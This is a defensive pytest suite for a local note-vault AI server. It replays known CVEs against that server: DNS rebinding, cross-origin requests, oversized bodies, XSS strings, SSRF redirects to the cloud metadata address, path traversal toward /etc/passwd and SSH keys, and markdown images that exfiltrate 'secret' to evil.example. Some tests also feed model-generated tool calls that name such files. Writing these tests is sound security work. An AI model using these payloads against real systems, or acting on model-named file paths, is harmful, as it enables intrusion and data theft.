"""Known failures of comparable tools, tried against the real server; names say where each was found."""

from __future__ import annotations

import json
import re
import socket
import struct
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from notec.app import Workspace
from notec.app.serving import Vaults, serve_token
from notec.front.http.render import to_html
from openai_server import DONE, Answer, OpenAIServer, delta, event, say
from serving import Served, serving

pytest.importorskip("starlette")
pytest.importorskip("aiohttp")

EVIL = "http://evil.example"
CHAT = {"model": "tiny", "messages": [{"role": "user", "content": "hello"}]}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("attacks")) as found:
        yield found


def test_dns_rebinding_cve_2024_28224(served: Served) -> None:
    for host in (
        "evil.example",
        f"evil.example:{served.port}",
        "127.0.0.1",
        f"127.0.0.1.evil.example:{served.port}",
    ):
        assert served.get("/v1/models", Host=host).status == 403
        assert served.post("/mcp", {}, Host=host).status == 403  # and of MCP, cve_2025_66416
    assert served.get("/v1/models", Host=f"localhost:{served.port}").status == 200


def test_a_host_that_stands_twice_is_no_host(served: Served) -> None:
    with socket.create_connection(("127.0.0.1", served.port)) as link:
        link.sendall(
            f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nHost: evil.example\r\n"
            f"Authorization: Bearer {served.token}\r\n\r\n".encode()
        )
        assert b" 40" in link.recv(100)[:14]


def test_no_page_of_another_site_may_ask_cve_2026_28201(served: Served) -> None:
    for origin in (
        EVIL,
        "null",
        f"http://127.0.0.1:{served.port + 1}",
        "https://app.obsidian.md",
        "http://localhost",
    ):
        found = served.get("/v1/models", Origin=origin)
        assert found.status == 403
        assert "access-control-allow-origin" not in found.headers
    found = served.get("/v1/models", Origin="app://obsidian.md")
    assert found.headers["access-control-allow-origin"] == "app://obsidian.md"
    assert "access-control-allow-credentials" not in found.headers
    for site in (
        "cross-site",
        "same-site",
    ):  # a form, a picture, a script tag: no Origin, but the browser says so
        assert served.get("/v1/models", Sec_Fetch_Site=site, Sec_Fetch_Mode="no-cors").status == 403


def test_a_get_changes_nothing_and_a_post_says_json_cve_2026_28201(served: Served) -> None:
    for path in ("/v1/chat/completions", "/notec/v1/ask", "/api/chat"):
        assert served.get(path).status == 405
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", None):
            found = served.ask("POST", path, b"{}", {"Content-Type": kind})
            assert found.status == 415, kind


def test_every_route_wants_a_token_cve_2024_3104(served: Served, tmp_path: Path) -> None:
    """Walks the whole route table, and tries the methods of each."""
    from notec.front.http import pages, server
    from notec.front.http.gateway import Gateway
    from notec.front.http.guard import Door

    tmp_path.joinpath("note.md").write_text("a", "utf-8")
    gateway = Gateway(Vaults(Workspace.open(tmp_path, tmp_path / "home")), None)
    agents = server._agents(gateway)
    app = server.application(gateway, Door("x", frozenset(("127.0.0.1:1",))), agents)._app
    paths = {route.path.replace("{name:path}", "x").replace("{path:path}", "x") for route in app.routes}
    assert len(paths) > 25
    for path in paths | {"/none", "/v1/../v1/models", "//v1/models", "/V1/MODELS", "/v1/models/"}:
        for method in ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD"):
            found = served.ask(
                method, path, b"{}" if method in ("POST", "PUT") else None, {"Authorization": None}
            )
            if path in pages.OPEN and method in ("GET", "HEAD"):
                assert b"Omelette" not in found.raw
            else:
                assert found.status in (401, 429), (method, path)
    gateway.vaults.close()


def test_a_token_before_the_path_is_a_token_and_nothing_else(served: Served) -> None:
    """`/key/TOKEN/...`, for programs that send no header: guarded as every other request."""
    bare: dict[str, str | None] = {"Authorization": None}
    key = f"/key/{served.token}"
    assert served.ask("GET", f"{key}/v1/models", None, bare).status == 200
    assert served.ask("GET", f"{key}/notes/Omelette.md", None, bare).status == 200
    for path in ("/key/wrong/v1/models", "/key//v1/models", "/key", f"/x{key}/v1/models"):
        assert served.ask("GET", path, None, bare).status in (401, 429), path
    for path in (f"{key}/notes/../../etc/passwd", f"{key}/notes/%2e%2e/serve-token", f"{key}{key}/v1/models"):
        assert served.ask("GET", path, None, bare).status in (403, 404), path
    assert served.ask("GET", f"{key}/v1/models", None, {**bare, "Origin": EVIL}).status == 403
    assert served.ask("GET", f"{key}/v1/models", None, {**bare, "Host": "evil.example"}).status == 403
    asked = {**bare, "Content-Type": "text/plain"}
    assert served.ask("POST", f"{key}/api/chat", b"{}", asked).status == 415
    assert served.ask("POST", f"{key}/api/show", b'{"model": "notec+vault:select"}', asked).status == 200


def test_the_token_of_one_vault_opens_no_other(served: Served, tmp_path: Path) -> None:
    with serving(tmp_path, notes={"Other.md": "# Other\n"}) as other:
        assert other.token != served.token
        assert other.get("/v1/models", Authorization=f"Bearer {served.token}").status == 401
        assert other.get("/v1/models", Cookie="notec=" + "0" * 64, Authorization=None).status == 401


def test_a_token_is_private_and_can_be_renewed(tmp_path: Path) -> None:
    token = serve_token(tmp_path)
    assert serve_token(tmp_path) == token
    assert (tmp_path / "serve-token").stat().st_mode & 0o077 == 0
    assert serve_token(tmp_path, renew=True) != token


def test_wrong_tokens_run_into_a_wall_and_right_ones_pass(tmp_path: Path) -> None:
    with serving(tmp_path) as served:
        answers = [served.get("/v1/models", Authorization=f"Bearer {n}").status for n in range(15)]
        assert answers[:10] == [401] * 10
        assert set(answers[10:]) == {429}
        assert served.get("/v1/models").status == 200


def test_a_huge_body_is_not_read_cve_2024_12537(served: Served) -> None:
    found = served.ask("POST", "/v1/chat/completions", b"{}", {"Content-Length": str(1 << 30)})
    assert found.status == 413
    with socket.create_connection(("127.0.0.1", served.port)) as link:  # chunked, without saying how long
        link.sendall(
            f"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
            f"Authorization: Bearer {served.token}\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        piece = b"100000\r\n" + b" " * (1 << 20) + b"\r\n"
        try:
            for _ in range(80):
                link.sendall(piece)
        except OSError:
            pass  # it hung up
        try:
            said = link.recv(100)
        except OSError:
            said = b""
        assert b" 413 " in said or not said
    assert served.get("/v1/models").status == 200


def test_a_client_that_reads_a_byte_a_second_holds_nobody_up(tmp_path: Path) -> None:
    with (
        OpenAIServer(say("word " * 20_000, size=5_000)) as engine,
        serving(tmp_path, config=f'[model]\nurl = "{engine.url}"\n') as served,
    ):
        body = json.dumps({**CHAT, "stream": True}).encode()
        with socket.create_connection(("127.0.0.1", served.port)) as link:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            link.sendall(
                f"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n"
                f"Authorization: Bearer {served.token}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n".encode()
                + body
            )
            assert link.recv(1)
            started = time.monotonic()
            assert served.post("/v1/chat/completions", {**CHAT, "stream": True}).status == 200
            assert time.monotonic() - started < 30


def test_events_of_a_model_server_are_data_cve_2025_64496(tmp_path: Path) -> None:
    """An event named `execute` made a page run a script; here only JSON passes, with no name of its own."""
    steps = [
        b'event: execute\ndata: {"code": "alert(1)"}\n\n',
        b"data: <script>alert(2)</script>\n\n",
        b"id: 7\nretry: 1\n"
        + event({"choices": [{"index": 0, "delta": {"content": "hi"}, "finish_reason": "stop"}]}),
        DONE,
    ]
    play = Answer(steps, headers={"Set-Cookie": "a=b", "Refresh": "0;url=http://evil.example"})
    with (
        OpenAIServer(play) as engine,
        serving(tmp_path, config=f'[model]\nurl = "{engine.url}"\n') as served,
    ):
        found = served.post("/v1/chat/completions", {**CHAT, "stream": True})
        assert b"event:" not in found.raw
        assert b"<script>" not in found.raw
        assert b"retry:" not in found.raw
        assert "set-cookie" not in found.headers
        assert "refresh" not in found.headers


def test_an_engine_that_redirects_is_not_followed_cve_2024_0455(tmp_path: Path) -> None:
    """Nobody makes notec fetch the metadata of a cloud, or anything else that a model server points to."""
    aside = Answer([b""], 302, "text/plain", {"Location": "http://169.254.169.254/latest/meta-data/"})
    with (
        OpenAIServer(aside) as engine,
        serving(tmp_path, config=f'[model]\nurl = "{engine.url}"\n') as served,
    ):
        assert served.post("/v1/chat/completions", CHAT).status == 502


def test_no_route_takes_an_address_to_fetch_cve_2024_0455(served: Served) -> None:
    described = json.dumps(served.get("/notec/v1/openapi.json").json)
    assert "url" not in {key for path in json.loads(described)["paths"].values() for key in _properties(path)}


def _properties(path: dict[str, dict[str, dict[str, dict[str, dict[str, dict[str, object]]]]]]) -> list[str]:
    schema = path["post"]["requestBody"]["content"]["application/json"]["schema"]
    return list(schema["properties"])


def test_an_address_that_leads_away_is_no_engine(tmp_path: Path) -> None:
    with (
        pytest.raises(AssertionError, match="not this machine"),
        serving(tmp_path, config='[model]\nurl = "http://169.254.169.254/v1"\n'),
    ):
        pass


def test_malformed_sizes_in_a_model_file_cve_2026_7482(tmp_path: Path) -> None:
    bad = tmp_path / "bad.gguf"
    bad.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 63) + b"\xff" * 64)
    with (
        pytest.raises(AssertionError, match=r"bad\.gguf"),
        serving(tmp_path, config=f"[model]\npath = {json.dumps(str(bad))}\n"),
    ):
        pass


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=//e>"]
)
def test_stored_and_prompted_html_stays_text_cve_2024_43396_cve_2025_64495(text: str) -> None:
    assert "<" not in to_html(text).replace("<p>", "").replace("</p>", "").strip()


def test_a_picture_carries_nothing_away_cve_2025_32711() -> None:
    for text in ("![x](https://evil.example/?q=secret)", "![x][r]\n\n[r]: https://evil.example/?q=secret"):
        html = to_html(text)
        assert "<img" not in html
        assert "href" not in html


def test_a_prefix_of_a_folder_is_not_the_folder_ghsa_869j(tmp_path: Path) -> None:
    """`/vault-other` begins like `/vault`, and is none of it."""
    (tmp_path / "vault-other").mkdir(parents=True)
    (tmp_path / "vault-other" / "secret.md").write_text("secret", "utf-8")
    with serving(tmp_path) as served:
        for path in ("/notes/../vault-other/secret.md", "/notes/..%2fvault-other%2fsecret.md"):
            assert served.get(path).status == 404
        assert served.post("/notec/v1/read", {"note": "../vault-other/secret.md"}).status == 409


def test_answers_may_not_be_framed_sniffed_or_scripted(served: Served) -> None:
    for path in ("/", "/v1/models", "/notes/Omelette.md", "/none"):
        headers = served.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["referrer-policy"] == "no-referrer"
        assert "server" not in headers


def test_the_preflight_of_obsidian_and_of_nobody_else(served: Served) -> None:
    asked = {
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type,x-stainless-lang,x-stainless-os,x-evil",
        "Authorization": None,
    }
    found = served.ask("OPTIONS", "/v1/chat/completions", None, {"Origin": "app://obsidian.md", **asked})
    assert found.status == 204
    assert found.headers["access-control-allow-origin"] == "app://obsidian.md"
    allowed = found.headers["access-control-allow-headers"]
    assert "x-stainless-lang" in allowed
    assert "x-evil" not in allowed
    assert served.ask("OPTIONS", "/v1/chat/completions", None, {"Origin": EVIL, **asked}).status == 403


NAMES = [
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\secret.md",
    "C:\\secret.md",
    "~/.ssh/id_rsa",
    "file:///etc/passwd",
    "../home/serve-token",
    "notec.toml",
    ".obsidian/plugins/x/main.js",
    "Omelette.md\x00.png",
    "a" * 5000,
]


def test_a_model_names_no_file_ghsa_qrm5(tmp_path: Path) -> None:
    """A name that a model gives is a word: no file outside of the index is read by it, none is written."""
    with (
        OpenAIServer() as engine,
        serving(tmp_path, config=f'[model]\nurl = "{engine.url}"\n') as served,
    ):
        before = _files(tmp_path)
        for name in NAMES:
            call = {
                "index": 0,
                "id": name,
                "function": {"name": name, "arguments": json.dumps({"path": name})},
            }
            engine.plays[:] = [Answer([delta(name, tool_calls=[call]), delta(finish="tool_calls"), DONE])]
            for path, body in (
                ("/v1/chat/completions", {**CHAT, "stream": True}),
                ("/v1/responses", {"model": "tiny", "input": "write a file"}),
                ("/api/chat", CHAT),
            ):
                assert served.post(path, body).status == 200
            engine.plays[:] = [say(name)]
            asked = [{"role": "user", "content": name}]
            for model in ("tiny+vault", "tiny+brief"):
                found = served.post("/v1/chat/completions", {"model": model, "messages": asked})
                assert found.status in (200, 409)
                assert b"root:" not in found.raw
                assert served.token.encode() not in found.raw
            for verb in ("read", "brief", "links"):
                assert served.post(f"/notec/v1/{verb}", {"note": name}).status in (400, 409), (verb, name)
        assert _files(tmp_path) == before


def _files(folder: Path) -> set[str]:
    """Every file, but what belongs to SQLite and the log of the server."""
    found = {str(p.relative_to(folder)) for p in folder.rglob("*")}
    return {name for name in found if not name.endswith(("-wal", "-shm", ".db", ".sqlite"))}


def test_the_table_of_the_security_page_names_tests_that_exist() -> None:
    root = Path(__file__).parent
    rows = re.findall(
        r"^\|.*\| `(test_\w+)` \|$", (root.parent / "docs/security.md").read_text("utf-8"), re.M
    )
    tests = "".join(path.read_text("utf-8") for path in root.glob("test_*.py"))
    assert len(rows) > 20
    assert [name for name in rows if f"def {name}(" not in tests] == []
    text = Path(__file__).read_text("utf-8")
    assert [n for n in re.findall(r"def (test_\w+_(?:cve|ghsa)_\w+)\(", text) if n not in rows] == []
